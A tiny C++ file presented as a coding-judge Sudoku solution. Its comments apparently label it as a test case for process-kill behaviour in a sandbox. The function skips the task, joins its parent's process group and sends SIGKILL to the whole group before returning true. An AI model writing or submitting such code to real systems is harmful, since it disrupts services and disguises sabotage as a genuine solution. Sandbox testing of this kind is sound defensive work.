// Joins the process group of its parent and kills it.
// Category: process
// Cause: killed (SIGKILL)
#include <unistd.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        setpgid(0, getppid());
        setpgid(0, getpgid(getppid()));
        kill(0, SIGKILL);
        return true;
    }
};
